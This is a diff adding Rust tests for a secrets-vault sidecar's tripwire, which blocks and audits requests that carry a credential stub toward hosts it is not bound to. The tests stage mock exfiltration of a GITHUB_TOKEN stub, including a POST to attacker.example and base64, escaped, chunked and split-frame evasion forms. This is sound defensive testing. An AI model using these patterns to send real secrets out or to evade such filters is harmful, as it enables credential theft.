@@ -1,0 +1,316 @@
+//! The stub tripwire beyond the request head (issue 14): request bodies, cleartext `http://`
+//! requests and the client's WebSocket messages. An agent that wants a stub to reach a host its
+//! secret is not bound to is refused before the stub's last byte leaves, and the refusal is
+//! audited.
+
+use std::time::Duration;
+
+use crate::support;
+use futures_util::{SinkExt as _, StreamExt as _};
+use support::ops::eventually;
+use support::*;
+
+const PROTOS: [&str; 2] = ["--http1.1", "--http2"];
+
+/// The audit events for `path` (with or without a query), from `/interceptions`.
+async fn audit_for(sidecar: &Sidecar, path: &str) -> Vec<serde_json::Value> {
+    let r = sidecar.admin_get("/interceptions").await;
+    assert_eq!(r.status, 200, "GET /interceptions: {}", r.body_text());
+    let events: Vec<serde_json::Value> = serde_json::from_slice(&r.body).expect("a JSON array");
+    events
+        .into_iter()
+        .filter(|e| {
+            let p = e["path"].as_str().unwrap_or("");
+            p == path || p.starts_with(&format!("{path}?"))
+        })
+        .collect()
+}
+
+fn assert_refused(out: &CurlOut, secret: &str, what: &str) {
+    assert_eq!(out.status, 403, "{what}: {}", out.body_text());
+    assert_eq!(out.header("x-vault-blocked"), Some("stub-exfiltration"), "{what}");
+    let body: serde_json::Value = serde_json::from_str(&out.body_text()).expect("a JSON refusal");
+    assert_eq!(body["secret"], secret, "{what}: {body}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_body_carrying_a_stub_toward_a_host_its_secret_is_not_bound_to_is_refused_before_it_leaves() {
+    use base64::Engine as _;
+    let h = Harness::default_setup().await;
+    let b64 = base64::engine::general_purpose::STANDARD.encode(GITHUB_STUB);
+    let bodies = [
+        (
+            "raw",
+            format!(r#"{{"messages":[{{"content":"env says GITHUB_TOKEN={GITHUB_STUB}"}}]}}"#),
+        ),
+        ("base64", format!(r#"{{"data":"{b64}"}}"#)),
+        (
+            "json-escaped",
+            format!(r#"{{"t":"{}"}}"#, GITHUB_STUB.replace('_', "\\u005f")),
+        ),
+    ];
+    for proto in PROTOS {
+        for (form, body) in &bodies {
+            let out = h
+                .sidecar
+                .curl()
+                .args([proto, "-H", "content-type: application/json", "--data-binary", body])
+                .arg(format!("https://api.anthropic.com/upload?case={proto}-{form}"))
+                .run()
+                .await;
+            assert_refused(&out, "GITHUB_TOKEN", &format!("{proto} {form}"));
+        }
+        // A chunked body (no Content-Length) streams: the tripwire ends it at the stub, and the
+        // request is still answered 403.
+        let file = h.sidecar.dir.path().join("chunked.json");
+        std::fs::write(&file, &bodies[0].1).expect("write body");
+        let out = h
+            .sidecar
+            .curl()
+            .args([
+                proto,
+                "-H",
+                "transfer-encoding: chunked",
+                "-H",
+                "content-type: application/json",
+            ])
+            .arg("--data-binary")
+            .arg(format!("@{}", file.display()))
+            .arg("https://api.anthropic.com/upload")
+            .run()
+            .await;
+        assert_refused(&out, "GITHUB_TOKEN", &format!("{proto} chunked"));
+        assert!(
+            h.upstream
+                .requests_to("/upload")
+                .iter()
+                .all(|r| !String::from_utf8_lossy(&r.body_prefix).contains(GITHUB_STUB)),
+            "{proto}: the stub reached the upstream"
+        );
+    }
+
+    // Stubs the host is bound to (not declared for this body) pass as stubs; nothing is refused.
+    let out = h
+        .sidecar
+        .curl()
+        .args(["--data-binary", &format!("quoting {ANTHROPIC_STUB}")])
+        .arg("https://api.anthropic.com/upload")
+        .run()
+        .await
+        .ok();
+    assert_eq!(out.status, 200, "{}", out.body_text());
+
+    // A body read whole and refused never left: no request of those cases reached the upstream.
+    let leaked: Vec<_> = h
+        .upstream
+        .requests_to("/upload")
+        .into_iter()
+        .filter(|r| r.path.contains("case="))
+        .collect();
+    assert!(leaked.is_empty(), "{leaked:#?}");
+
+    let refused = audit_for(&h.sidecar, "/upload").await;
+    let blocked: Vec<_> = refused.iter().filter(|e| e["blocked"] == "stub-exfiltration").collect();
+    assert_eq!(blocked.len(), 2 * (bodies.len() + 1), "{refused:#?}");
+    assert!(blocked
+        .iter()
+        .all(|e| e["blocked_secret"] == "GITHUB_TOKEN" && e["status"] == 403));
+    h.assert_logs_clean();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_large_body_is_cut_off_at_the_first_unbound_stub() {
+    let h = Harness::default_setup().await;
+    // 3 MiB: past the 1 MiB that is read whole, so it streams; the stub sits at 2 MiB.
+    let at = 2 << 20;
+    let mut body = vec![b'a'; 3 << 20];
+    body[at..at + GITHUB_STUB.len()].copy_from_slice(GITHUB_STUB.as_bytes());
+    let file = h.sidecar.dir.path().join("big.bin");
+    std::fs::write(&file, &body).expect("write body");
+    for proto in PROTOS {
+        let out = h
+            .sidecar
+            .curl()
+            .args([proto, "--data-binary"])
+            .arg(format!("@{}", file.display()))
+            .arg(format!("https://api.anthropic.com/upload?proto={proto}"))
+            .run()
+            .await;
+        // The client gets the refusal, or (if the upstream answered first) a reset.
+        assert_ne!(out.status, 200, "{proto}: {}", out.body_text());
+        if out.status != 0 {
+            assert_refused(&out, "GITHUB_TOKEN", proto);
+        }
+        let seen = eventually(
+            Duration::from_secs(10),
+            "the upstream's record of the cut-off body",
+            || {
+                std::future::ready(
+                    h.upstream
+                        .requests_to("/upload")
+                        .into_iter()
+                        .find(|r| r.path.ends_with(proto)),
+                )
+            },
+        )
+        .await;
+        let len = seen.body_len.expect("the upstream read the body");
+        assert!(
+            len < (at + GITHUB_STUB.len()) as u64,
+            "{proto}: the upstream received {len} bytes, the whole stub"
+        );
+    }
+    let events = audit_for(&h.sidecar, "/upload").await;
+    assert_eq!(events.len(), 2, "{events:#?}");
+    assert!(
+        events
+            .iter()
+            .all(|e| e["blocked"] == "stub-exfiltration" && e["blocked_secret"] == "GITHUB_TOKEN"),
+        "{events:#?}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hosts_without_secrets_mode_lets_a_model_host_receive_the_stubs_a_conversation_quotes() {
+    let h = Harness::start(Alpn::Both, |c| {
+        c.intercept = Some("all".into());
+        c.keys.insert("body_tripwire".into(), "hosts-without-secrets".into());
+    })
+    .await;
+    let conversation = format!(r#"{{"tool_result":"GITHUB_TOKEN={GITHUB_STUB}"}}"#);
+    // api.anthropic.com is bound to ANTHROPIC_API_KEY: the other stub goes as the stub.
+    let out = h
+        .sidecar
+        .curl()
+        .args(["--data-binary", &conversation])
+        .arg("https://api.anthropic.com/upload")
+        .run()
+        .await
+        .ok();
+    assert_eq!(out.status, 200, "{}", out.body_text());
+    let rec = h.upstream.requests_to("/upload").pop().expect("upstream saw the body");
+    assert_eq!(rec.body_prefix, conversation.as_bytes());
+    // attacker.example has no secret: refused.
+    let out = h
+        .sidecar
+        .curl()
+        .args(["--data-binary", &conversation])
+        .arg("https://attacker.example/upload")
+        .run()
+        .await;
+    assert_refused(&out, "GITHUB_TOKEN", "toward a host without secrets");
+    assert_eq!(h.upstream.requests_to("/upload").len(), 1);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_cleartext_request_carrying_any_stub_is_refused() {
+    let h = Harness::default_setup().await;
+    let cases = [
+        (
+            "header",
+            vec!["-H".to_owned(), format!("x-api-key: {ANTHROPIC_STUB}")],
+            "/echo".to_owned(),
+        ),
+        (
+            "header name",
+            vec!["-H".to_owned(), format!("x-{GITHUB_STUB}: 1")],
+            "/echo".to_owned(),
+        ),
+        ("query", Vec::new(), format!("/echo?key={QUERY_STUB}")),
+        (
+            "body",
+            vec!["--data-binary".to_owned(), format!("token={BODY_STUB}")],
+            "/upload".to_owned(),
+        ),
+    ];
+    for (what, args, path) in cases {
+        let out = h
+            .sidecar
+            .curl()
+            .args(args)
+            .arg(format!("http://api.anthropic.com{path}"))
+            .run()
+            .await;
+        assert_eq!(out.status, 403, "{what}: {}", out.body_text());
+        assert_eq!(out.header("x-vault-blocked"), Some("stub-exfiltration"), "{what}");
+    }
+    assert!(h.upstream.requests().is_empty(), "{:#?}", h.upstream.requests());
+    let out = h.sidecar.curl().arg("http://api.anthropic.com/echo").run().await.ok();
+    assert_eq!(
+        out.status,
+        200,
+        "a request without a stub is forwarded: {}",
+        out.body_text()
+    );
+    h.assert_logs_clean();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_websocket_message_carrying_an_unbound_stub_closes_the_connection_before_it_leaves() {
+    use tokio_tungstenite::tungstenite::client::IntoClientRequest as _;
+    use tokio_tungstenite::tungstenite::protocol::frame::coding::{CloseCode, Data, OpCode};
+    use tokio_tungstenite::tungstenite::protocol::frame::Frame;
+    use tokio_tungstenite::tungstenite::Message;
+    let h = Harness::default_setup().await;
+    for split in [false, true] {
+        let tls = tunnel_tls(&h.sidecar, "api.anthropic.com", &["http/1.1"]).await;
+        let mut req = "wss://api.anthropic.com/ws".into_client_request().expect("ws request");
+        req.headers_mut()
+            .insert("x-api-key", ANTHROPIC_STUB.parse().expect("header value"));
+        let (mut ws, resp) = within(
+            Duration::from_secs(20),
+            "WebSocket handshake",
+            Box::pin(tokio_tungstenite::client_async(req, tls)),
+        )
+        .await
+        .expect("handshake");
+        assert_eq!(resp.status(), 101);
+        // A clean message and one quoting the bound stub echo back.
+        for text in ["hello".to_owned(), format!("bound {ANTHROPIC_STUB}")] {
+            ws.send(Message::text(text.clone())).await.expect("send");
+            let got = within(Duration::from_secs(10), "echo", ws.next()).await;
+            assert_eq!(
+                got.expect("a message")
+                    .expect("valid")
+                    .into_text()
+                    .expect("text")
+                    .as_str(),
+                text
+            );
+        }
+        // GITHUB_TOKEN is not bound to api.anthropic.com.
+        let (a, b) = GITHUB_STUB.split_at(GITHUB_STUB.len() / 2);
+        if split {
+            let first = Frame::message(format!("x {a}").into_bytes(), OpCode::Data(Data::Text), false);
+            let second = Frame::message(format!("{b} y").into_bytes(), OpCode::Data(Data::Continue), true);
+            ws.send(Message::Frame(first)).await.expect("send");
+            let _ = ws.send(Message::Frame(second)).await;
+        } else {
+            ws.send(Message::text(format!("leak {GITHUB_STUB}")))
+                .await
+                .expect("send");
+        }
+        let mut seen = Vec::new();
+        while let Some(Ok(msg)) = within(Duration::from_secs(10), "the vault closes", ws.next()).await {
+            seen.push(msg);
+        }
+        assert!(
+            !seen.iter().any(|m| m.to_text().is_ok_and(|t| t.contains(b))),
+            "split={split}: the upstream received and echoed the stub: {seen:?}"
+        );
+        let close = seen.iter().find_map(|m| match m {
+            Message::Close(Some(f)) => Some(f.code),
+            _ => None,
+        });
+        assert_eq!(close, Some(CloseCode::Policy), "split={split}: {seen:?}");
+    }
+    let events = audit_for(&h.sidecar, "/ws").await;
+    assert_eq!(events.len(), 2, "{events:#?}");
+    assert!(
+        events
+            .iter()
+            .all(|e| e["blocked"] == "stub-exfiltration" && e["blocked_secret"] == "GITHUB_TOKEN"),
+        "{events:#?}"
+    );
+    h.assert_logs_clean();
+}
